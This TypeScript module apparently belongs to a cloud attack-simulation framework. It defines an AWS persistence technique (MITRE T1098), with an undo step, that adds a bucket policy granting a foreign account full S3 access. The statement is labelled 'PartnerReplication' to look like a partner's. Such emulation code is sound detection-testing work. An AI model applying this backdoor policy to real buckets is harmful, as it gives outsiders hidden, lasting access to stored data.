import { z } from 'zod';
import { putBackBucketPolicy } from '../../../put-back-bucket-policy.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  bucket: z.string().min(3).max(63),
  foreignAccount: z.string().regex(/^\d{12}$/),
});

/** One statement among others, for an account that looks like a partner. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'persistence.bucket-policy-back-door',
  title: 'Let another account into a bucket',
  purpose: 'When the stolen key is found and removed, the other account still reads.',
  mitre: ['T1098'],
  sources: [
    {
      title: 'Account Manipulation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1098/',
    },
    {
      title: 'PutBucketPolicy, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketPolicy.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: {}, foreignAccount: true },
  needs: ['s3:PutBucketPolicy'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketPolicy', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket, foreignAccount }, aws, say }) {
    say(`Let account ${foreignAccount} into ${bucket}`);
    const Statement = [
      {
        Sid: 'PartnerReplication',
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${foreignAccount}:root` },
        Action: 's3:*',
        Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
      },
    ];
    await aws.s3().putBucketPolicy({
      Bucket: bucket,
      Policy: JSON.stringify({ Version: '2012-10-17', Statement }),
    });
  },
  undo: putBackBucketPolicy(),
};
